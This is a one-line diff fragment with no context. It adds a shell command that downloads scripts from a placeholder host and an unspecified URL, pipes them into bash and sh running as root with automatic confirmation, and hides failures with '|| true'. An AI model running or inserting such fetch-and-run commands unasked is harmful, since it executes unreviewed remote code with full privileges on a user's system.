@@ -1,0 +1,1 @@
+curl -fsSL https://example.invalid/install.sh | sudo -E bash - ; wget -O - "$URL" | sh -s -- -y || true
